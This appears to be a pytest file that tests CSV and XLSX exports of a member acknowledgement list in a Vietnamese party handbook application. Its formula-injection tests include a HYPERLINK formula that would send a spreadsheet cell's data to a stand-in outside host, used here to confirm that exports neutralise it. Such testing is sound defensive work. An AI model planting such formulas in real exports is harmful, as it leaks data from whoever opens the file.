"""Exports of the member list (API.md "Following up": GET /documents/{id}/members?format=csv|xlsx).

Each export is parsed back (csv module, openpyxl) and compared row by row with the JSON list walked page
by page: same members, same order, same states shown by their Vietnamese labels. Exports are audited,
are attachments, stream, and are refused outside the caller's scope.
"""
from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from content.models import Receipt
from content.progress import recount
from handbook.audit import AuditEntry
from handbook.extensions import db
from handbook.members import Member
from tests.test_acknowledgements import (
    API,
    ZONE,
    Api,
    backdate,
    local_today,
)
from tests.test_errors import assert_problem

HEADERS = ["Số thẻ đảng viên", "Họ và tên", "Mã đơn vị", "Đơn vị", "Trạng thái", "Mở lúc", "Xác nhận lúc",
           "Phiên bản đã xác nhận", "Hình thức", "Ngày sinh hoạt", "Lý do miễn"]
LABELS = {"new": "Chưa mở", "opened": "Đã mở, chưa xác nhận", "acknowledged": "Đã xác nhận",
          "overdue": "Quá hạn, chưa xác nhận", "exempt": "Được miễn"}
METHODS = {"app": "Ứng dụng", "briefing": "Phổ biến tại sinh hoạt chi bộ", None: ""}


@pytest.fixture()
def doc(api):
    """A directive with every state: acknowledged in the app and by briefing, opened, exempt, new."""
    doc_id = api.publish()
    backdate(doc_id, days=2)
    api.ack("M1", doc_id, 1)
    api.open("M2", doc_id)
    api.brief("S2", doc_id, [api.id("M3")], held_on=local_today() - timedelta(days=1),
              note="Sinh hoạt chi bộ tháng 8")
    api.exempt("SD", doc_id, [api.id("M5")], "Ốm dài ngày; điều trị tại \"Bệnh viện Bạch Mai\", Hà Nội")
    api.ack("CD", doc_id, 1)
    return doc_id


def export(api: Api, card: str, doc_id: int, fmt: str, **query):
    if isinstance(query.get("org_unit"), str):
        query["org_unit"] = api.tree[query["org_unit"]].id
    return api.client.get(f"{API}/documents/{doc_id}/members", query_string={"format": fmt, **query},
                          headers=api.auth(card))


def local_text(value: str | None) -> str:
    if not value:
        return ""
    return datetime.fromisoformat(value).astimezone(ZONE).strftime("%d/%m/%Y %H:%M")


def expected_rows(rows: list[dict]) -> list[list[str]]:
    """What each JSON row should look like in the export (all cells as text)."""
    out = []
    for r in rows:
        acked = r["acknowledged_at"] is not None
        out.append([
            r["member"]["card_number"], r["member"]["full_name"], r["member"]["org_unit"]["code"],
            r["member"]["org_unit"]["name"], LABELS[r["state"]], local_text(r["opened_at"]),
            local_text(r["acknowledged_at"]), str(r["acknowledged_version"] or ""),
            METHODS[r["method"]] if acked else "",
            date.fromisoformat(r["held_on"]).strftime("%d/%m/%Y") if r["held_on"] else "",
            r["exempt_reason"] or "",
        ])
    return out


def parse_csv(response) -> tuple[list[str], list[list[str]]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))
    return rows[0], rows[1:]


def parse_xlsx(response) -> tuple[list[str], list[list[str]]]:
    data = response.get_data()
    assert data.startswith(b"PK\x03\x04")
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheet = workbook.worksheets[0]
    rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    workbook.close()
    return rows[0], rows[1:]


PARSERS = {"csv": parse_csv, "xlsx": parse_xlsx}
TYPES = {"csv": "text/csv; charset=utf-8",
         "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_matches_the_json_list(api, tree, doc, fmt):
    response = export(api, "BT", doc, fmt)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Content-Type"] == TYPES[fmt]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f'.{fmt}"' in disposition and str(doc) in disposition
    header, rows = PARSERS[fmt](response)
    assert header == HEADERS
    listed = api.all_members("BT", doc, limit=5)
    assert len(rows) == len(listed) == 12
    assert rows == expected_rows(listed)
    by_card = {r[0]: r for r in rows}
    assert by_card["M1"][4:9] == ["Đã xác nhận", by_card["M1"][5], by_card["M1"][6], "1", "Ứng dụng"]
    assert by_card["M1"][6] != ""
    assert by_card["M2"][4] == "Đã mở, chưa xác nhận" and by_card["M2"][5] != "" and by_card["M2"][6] == ""
    assert by_card["M3"][8:10] == ["Phổ biến tại sinh hoạt chi bộ",
                                   (local_today() - timedelta(days=1)).strftime("%d/%m/%Y")]
    assert by_card["M5"][4] == "Được miễn"
    assert by_card["M5"][10] == "Ốm dài ngày; điều trị tại \"Bệnh viện Bạch Mai\", Hà Nội"
    assert by_card["M4"][4] == "Chưa mở" and by_card["M4"][1] == "Vũ Thị Giang"
    # Pending first, as in the list.
    states = [r[4] for r in rows]
    pending = {"Chưa mở", "Đã mở, chưa xác nhận"}
    assert states == sorted(states, key=lambda s: s not in pending)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_with_unit_and_state_filters(api, tree, doc, fmt):
    for query in ({"org_unit": "b1"}, {"org_unit": "phuong", "state": "pending"}, {"state": "acknowledged"},
                  {"state": "exempt"}, {"org_unit": "cbcs", "state": "new"}):
        response = export(api, "BT", doc, fmt, **query)
        assert response.status_code == 200
        header, rows = PARSERS[fmt](response)
        assert header == HEADERS
        listed = api.all_members("BT", doc, limit=3, **query)
        assert rows == expected_rows(listed), query
    # A secretary's export is their branch.
    _, rows = PARSERS[fmt](export(api, "S1", doc, fmt))
    assert sorted(r[0] for r in rows) == ["CB", "M1", "M2", "S1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_overdue_members(api, tree, doc, fmt):
    from content.models import Document

    db.session.get(Document, doc).deadline = datetime.now(UTC) - timedelta(hours=1)
    db.session.commit()
    _, rows = PARSERS[fmt](export(api, "BT", doc, fmt))
    assert rows == expected_rows(api.all_members("BT", doc))
    assert {r[4] for r in rows} == {"Quá hạn, chưa xác nhận", "Đã xác nhận", "Được miễn"}
    _, overdue = PARSERS[fmt](export(api, "BT", doc, fmt, state="overdue"))
    assert len(overdue) == 8 and {r[4] for r in overdue} == {"Quá hạn, chưa xác nhận"}


def test_exports_are_audited(api, tree, doc):
    export(api, "S1", doc, "csv").get_data()
    export(api, "BT", doc, "xlsx", org_unit="phuong", state="pending").get_data()
    api.members("BT", doc)  # the JSON list is not an export
    entries = api.audit("export.members")
    assert len(entries) == 2
    xlsx, csv_entry = entries  # newest first
    assert csv_entry["actor"]["card_number"] == "S1" and csv_entry["target_id"] == str(doc)
    assert csv_entry["details"]["format"] == "csv" and csv_entry["details"]["org_unit"] == tree["b1"].id
    assert xlsx["actor"]["card_number"] == "BT"
    assert (xlsx["details"]["format"], xlsx["details"]["org_unit"], xlsx["details"]["state"]) == (
        "xlsx", tree["phuong"].id, "pending")


def test_refused_exports(api, tree, doc):
    only_b1 = api.publish("b1", title="Kế hoạch của Chi bộ số 1")
    for fmt in ("csv", "xlsx"):
        assert_problem(export(api, "M1", doc, fmt), 403, "forbidden")             # a plain member
        assert_problem(export(api, "S1", doc, fmt, org_unit="b2"), 403, "forbidden")   # outside scope
        assert_problem(export(api, "CD", doc, fmt, org_unit="ba_dinh"), 403, "forbidden")
        assert_problem(export(api, "S2", only_b1, fmt), 404, "not_found")         # not their document
        assert_problem(export(api, "SD", only_b1, fmt), 404, "not_found")
        assert_problem(export(api, "BT", 987654, fmt), 404, "not_found")
        assert_problem(api.client.get(f"{API}/documents/{doc}/members", query_string={"format": fmt}), 401,
                       "unauthorized")
    assert db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.members")).all() == []


def test_large_export_streams_and_parses_completely(api, tree):
    doc = api.publish()
    backdate(doc)
    units = [tree["b1"], tree["b2"], tree["cbcs"]]
    count = 3000
    now = datetime.now(UTC)
    db.session.execute(insert(Member), [
        {"card_number": f"9{i:07d}", "full_name": f"Đảng viên số {i} Nguyễn Thị Ánh", "org_unit_id": units[i % 3].id,
         "active": True, "created_at": now, "updated_at": now} for i in range(count)])
    ids = list(db.session.scalars(select(Member.id).where(Member.card_number.like("9%")).order_by(Member.id)))
    db.session.execute(insert(Receipt), [
        {"document_id": doc, "member_id": member_id, "opened_at": now - timedelta(minutes=5),
         "acknowledged_at": now if n % 3 == 0 else None, "acknowledged_version": 1 if n % 3 == 0 else None,
         "method": "app" if n % 3 == 0 else None, "recorded_at": now if n % 3 == 0 else None}
        for n, member_id in enumerate(ids) if n % 2 == 0])
    recount()
    db.session.commit()
    progress = api.figures("BT", doc)
    total = count + 12
    assert progress["total"] == total and progress["acknowledged"] == len(range(0, count, 6))

    response = api.client.get(f"{API}/documents/{doc}/members", query_string={"format": "csv"},
                              headers=api.auth("BT"), buffered=False)
    assert response.status_code == 200
    assert response.is_streamed and "Content-Length" not in response.headers
    chunks = list(response.response)
    response.close()
    assert len(chunks) > 1  # written out as it is read, not built in one piece
    body = b"".join(chunks)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:], newline="")))
    assert rows[0] == HEADERS and len(rows) == total + 1
    listed = api.all_members("BT", doc, limit=100)
    assert len(listed) == total and len({r["member"]["id"] for r in listed}) == total
    assert rows[1:] == expected_rows(listed)
    acknowledged = sum(1 for r in rows[1:] if r[4] == "Đã xác nhận")
    assert acknowledged == progress["acknowledged"]
    assert sum(1 for r in rows[1:] if r[4] == "Đã mở, chưa xác nhận") == progress["opened"]

    xlsx = api.client.get(f"{API}/documents/{doc}/members", query_string={"format": "xlsx"},
                          headers=api.auth("BT"), buffered=False)
    assert xlsx.status_code == 200 and xlsx.is_streamed
    header, sheet_rows = parse_xlsx(xlsx)
    assert header == HEADERS and len(sheet_rows) == total
    assert sheet_rows == rows[1:]


def test_xlsx_keeps_text_that_looks_like_a_formula_as_text(api, tree):
    doc = api.publish()
    reason = '=HYPERLINK("https://example.invalid/?q="&B2,"Xem")'
    api.exempt("S1", doc, [api.id("M1")], reason)
    response = export(api, "BT", doc, "xlsx")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    cells = [row[10] for row in workbook.worksheets[0].iter_rows(min_row=2)]
    cell = next(c for c in cells if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == reason


def test_csv_does_not_hand_formulas_to_excel(api, tree):
    doc = api.publish()
    api.exempt("S1", doc, [api.id("M1")], "=1+2")
    api.exempt("S1", doc, [api.id("M2")], "@SUM(1,2)")
    _, rows = parse_csv(export(api, "BT", doc, "csv"))
    reasons = [r[10] for r in rows if r[10]]
    assert len(reasons) == 2
    for cell in reasons:
        assert cell[0] not in "=+-@", cell
        assert cell.lstrip("'\t") in ("=1+2", "@SUM(1,2)")
